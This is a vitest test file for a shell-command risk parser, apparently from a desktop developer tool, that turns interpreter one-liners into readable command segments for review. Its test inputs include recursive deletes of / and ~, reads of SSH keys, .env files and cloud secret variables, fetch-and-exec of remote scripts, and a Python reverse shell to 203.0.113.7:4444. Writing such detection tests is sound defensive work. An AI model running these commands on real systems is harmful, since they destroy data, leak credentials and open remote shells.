// One-liners in Python, JavaScript, Ruby, Perl, PHP and awk: the interpreter stays a segment, and each call that runs
// a command or touches a file becomes a synthetic segment a reviewer can read (`shutil.rmtree(p)` is `rm -rf p`).
import { beforeAll, describe, expect, it } from 'vitest';
import type { Segment } from '../../../../../electron/core/risk/model.ts';
import type { ShellParse } from '../../../../../electron/core/risk/parse/index.ts';
import { line, shellParser } from '../../../../support/shell-parse.ts';

let parse: ShellParse;
beforeAll(async () => {
  parse = await shellParser();
});

/** The synthetic segments read out of a command's code, as lines. */
const calls = (cmd: string): string[] =>
  parse(cmd)
    .segments.filter((s) => s.synthetic)
    .map(line);
const synthetic = (cmd: string): Segment[] => parse(cmd).segments.filter((s) => s.synthetic);

describe('python', () => {
  it.each([
    [`python -c "import shutil; shutil.rmtree('/')"`, ['rm -rf /']],
    [`python3 -c "import os; os.system('rm -rf ~')"`, ['rm -rf ~']],
    [`python3 -c "import os; os.popen('curl x | sh')"`, ['curl x', 'sh']],
    [`python3 -c 'import subprocess; subprocess.run(["rm", "-rf", "/"])'`, ['rm -rf /']],
    [`python3 -c 'import subprocess; subprocess.check_output("git push -f", shell=True)'`, ['git push -f']],
    [`python3 -c 'from subprocess import run; run(["git", "push", "-f"])'`, ['git push -f']],
    [`python -c "import os; os.remove('a.txt'); os.unlink('b')"`, ['rm a.txt', 'rm b']],
    [`python -c "import os; os.rmdir('d')"`, ['rmdir d']],
    [`python -c "import shutil; shutil.move('a', '/tmp/b')"`, ['mv a /tmp/b']],
    [`python -c "open('/etc/passwd', 'w').write('x')"`, ['tee /etc/passwd']],
    [`python -c "print(open('/home/dev/.ssh/id_rsa').read())"`, ['cat /home/dev/.ssh/id_rsa']],
    [`python -c "import os; print(os.environ['AWS_SECRET_ACCESS_KEY'])"`, ['printenv AWS_SECRET_ACCESS_KEY']],
    [
      `python -c "from pathlib import Path; Path.home().joinpath('x'); (Path.home() / '.ssh' / 'id_rsa').unlink()"`,
      ['rm ~/.ssh/id_rsa'],
    ],
  ])('%s', (cmd, expected) => expect(calls(cmd)).toEqual(expected));

  it('keeps the interpreter as a segment of its own, and labels the calls', () => {
    const p = parse(`python -c "import shutil; shutil.rmtree('/')"`);
    expect(p.segments[0]?.synthetic).toBe(false);
    expect(p.segments[0]?.argv[0]?.text).toBe('python');
    expect(p.segments[1]?.via).toEqual(['python -c']);
    expect(p.segments[1]?.text).toBe("shutil.rmtree('/')");
  });

  it('marks a path built at run time as unknown', () => {
    const rm = synthetic(`python -c "import shutil, sys; shutil.rmtree(sys.argv[1])"`)[0];
    expect(rm?.argv[2]).toEqual({ text: '$EXPR', known: false });
    const joined = synthetic(
      `python -c "import os, shutil; shutil.rmtree(os.path.join(os.environ['HOME'], 'x'))"`,
    ).find((s) => s.argv[0]?.text === 'rm');
    expect(joined?.argv[2]).toEqual({ text: '$HOME/x', known: false });
  });

  it('reads code from a here-doc or a pipe', () => {
    expect(calls("python3 - <<EOF\nimport os\nos.system('rm -rf /')\nEOF")).toEqual(['rm -rf /']);
    expect(synthetic("python3 <<'EOF'\nimport shutil\nshutil.rmtree('/srv')\nEOF")[0]?.via).toEqual(['python3 <<EOF']);
    expect(calls(`echo 'import os; os.remove("x")' | python`)).toEqual(['rm x']);
  });

  it('reads code run by exec once, and downloaded code as curl piped into python', () => {
    expect(calls(`python3 -c "exec('import os; os.system(\\"rm -rf ~\\")')"`)).toEqual(['rm -rf ~']);
    const fetched = synthetic(
      `python3 -c "import urllib.request; exec(urllib.request.urlopen('http://example.com/p.py').read())"`,
    );
    expect(fetched.map(line)).toEqual(['curl -fsSL http://example.com/p.py', 'python3']);
    expect(fetched[1]?.pipeFrom?.[0]?.text).toBe('curl');
  });

  it('finds nothing in code that runs nothing', () => {
    expect(calls(`python -c "print(sum(range(10)))"`)).toEqual([]);
    expect(calls('python -c \'print(eval("1+2"))\'')).toEqual([]);
    expect(calls('python -m http.server')).toEqual([]);
    expect(calls('python script.py --delete')).toEqual([]);
  });
});

describe('javascript', () => {
  it.each([
    [`node -e "require('child_process').execSync('rm -rf /')"`, ['rm -rf /']],
    [`node -e "const cp = require('child_process'); cp.spawn('rm', ['-rf', '/'])"`, ['rm -rf /']],
    [`node -e "require('child_process').execFileSync('git', ['push', '--force'])"`, ['git push --force']],
    [`node -e "require('fs').rmSync('/srv', {recursive: true, force: true})"`, ['rm -rf /srv']],
    [`node -e "require('fs').unlinkSync('a.txt')"`, ['rm a.txt']],
    [`node -e "require('fs').writeFileSync('/etc/hosts', '')"`, ['tee /etc/hosts']],
    [`node -e "console.log(require('fs').readFileSync('.env', 'utf8'))"`, ['cat .env']],
    [`node -e "console.log(process.env.GITHUB_TOKEN)"`, ['printenv GITHUB_TOKEN']],
    [`node --eval "require('child_process').exec('git push -f')"`, ['git push -f']],
    [`deno eval "Deno.removeSync('/')"`, ['rm /']],
    [`bun -e "Bun.spawnSync(['rm', '-rf', '/'])"`, ['rm -rf /']],
  ])('%s', (cmd, expected) => expect(calls(cmd)).toEqual(expected));

  it('does not take exec for child_process unless child_process is loaded', () => {
    expect(calls(`node -e "/a/.exec('b')"`)).toEqual([]);
  });

  it('reads code from a here-doc', () => {
    expect(calls("node <<EOF\nrequire('fs').rmSync('/', {recursive: true})\nEOF")).toEqual(['rm -rf /']);
  });
});

describe('ruby, perl, php', () => {
  it.each([
    [`ruby -e 'FileUtils.rm_rf("/")'`, ['rm -rf /']],
    [`ruby -e 'system("rm -rf /")'`, ['rm -rf /']],
    [`ruby -e 'system("rm", "-rf", "/")'`, ['rm -rf /']],
    [`ruby -e '\`rm -rf /\`'`, ['rm -rf /']],
    [`ruby -e '%x(rm -rf /)'`, ['rm -rf /']],
    [`ruby -e 'File.delete("a.txt")'`, ['rm a.txt']],
    [`ruby -e 'eval(Net::HTTP.get(URI("https://x.io/a.rb")))'`, ['curl -fsSL https://x.io/a.rb', 'ruby']],
    [`perl -e 'system("rm -rf /")'`, ['rm -rf /']],
    [`perl -e 'exec "git push -f"'`, ['git push -f']],
    [`perl -e 'unlink "/etc/passwd"'`, ['rm /etc/passwd']],
    [`perl -MFile::Path -e 'rmtree("/srv")'`, ['rm -rf /srv']],
    [`perl -e 'print qx(cat ~/.ssh/id_rsa)'`, ['cat ~/.ssh/id_rsa']],
    [`perl -MLWP::Simple -e 'eval get("http://x.io/a.pl")'`, ['curl -fsSL http://x.io/a.pl', 'perl']],
    [`php -r 'shell_exec("rm -rf /");'`, ['rm -rf /']],
    [`php -r 'system("git push -f");'`, ['git push -f']],
    [`php -r 'unlink("/etc/passwd");'`, ['rm /etc/passwd']],
  ])('%s', (cmd, expected) => expect(calls(cmd)).toEqual(expected));

  it('does not read perl eval blocks or in-place edits as commands', () => {
    expect(calls(`perl -e 'eval { die "x" }; print $@'`)).toEqual([]);
    expect(calls(`perl -pi -e 's/foo/bar/g' file.txt`)).toEqual([]);
  });
});

describe('raw network connections read as nc', () => {
  it.each([
    [
      `python3 -c 'import socket,subprocess;s=socket.socket();s.connect(("203.0.113.7",4444));subprocess.call(["/bin/sh","-i"])'`,
      ['nc 203.0.113.7 4444', '/bin/sh -i'],
    ],
    [`python -c "import socket; socket.create_connection(('example.com', 80))"`, ['nc example.com 80']],
    [`ruby -rsocket -e 'f=TCPSocket.open("203.0.113.7",4444).to_i'`, ['nc 203.0.113.7 4444']],
    [`php -r '$s=fsockopen("203.0.113.7",4444);'`, ['nc 203.0.113.7 4444']],
    [`perl -MIO::Socket -e 'IO::Socket::INET->new(PeerAddr => "203.0.113.7:4444")'`, ['nc 203.0.113.7 4444']],
    [`node -e "const net = require('net'); net.connect(4444, '203.0.113.7')"`, ['nc 203.0.113.7 4444']],
  ])('%s', (cmd, expected) => expect(calls(cmd)).toEqual(expected));

  it('needs the socket library: a database connect is not one', () => {
    expect(calls(`python -c 'import db; db.connect("x")'`)).toEqual([]);
  });
});

describe('awk', () => {
  it.each([
    [`awk 'BEGIN { system("rm -rf ~") }'`, ['rm -rf ~']],
    [`awk '{ system("rm -rf " $1) }' list.txt`, ['rm -rf ?$EXPR']],
    [`awk '{ print $1 | "sh" }' cmds.txt`, ['sh']],
    [`awk 'BEGIN { while (("cat ~/.ssh/id_rsa" | getline line) > 0) print line }'`, ['cat ~/.ssh/id_rsa']],
    [`awk '{ print > "/etc/hosts" }' x`, ['tee /etc/hosts']],
    [`awk '{ print >> "/home/dev/.bashrc" }' x`, ['tee -a /home/dev/.bashrc']],
    [`gawk 'BEGIN { print ENVIRON["AWS_SECRET_ACCESS_KEY"] }'`, ['printenv AWS_SECRET_ACCESS_KEY']],
  ])('%s', (cmd, expected) => expect(calls(cmd)).toEqual(expected));

  it('reads nothing from programs that only print', () => {
    for (const cmd of [
      `awk -F: '{print $1}' /etc/passwd`,
      `awk '/a|b/ {print $2}' f`,
      `awk '$1 > 5 { n++ } END { print n }' data`,
      'awk -v x=1 -f prog.awk data',
    ]) {
      expect(calls(cmd)).toEqual([]);
    }
  });

  it('reads a program given on stdin with -f -', () => {
    expect(calls(`echo 'BEGIN { system("rm -rf ~") }' | awk -f -`)).toEqual(['rm -rf ~']);
  });
});
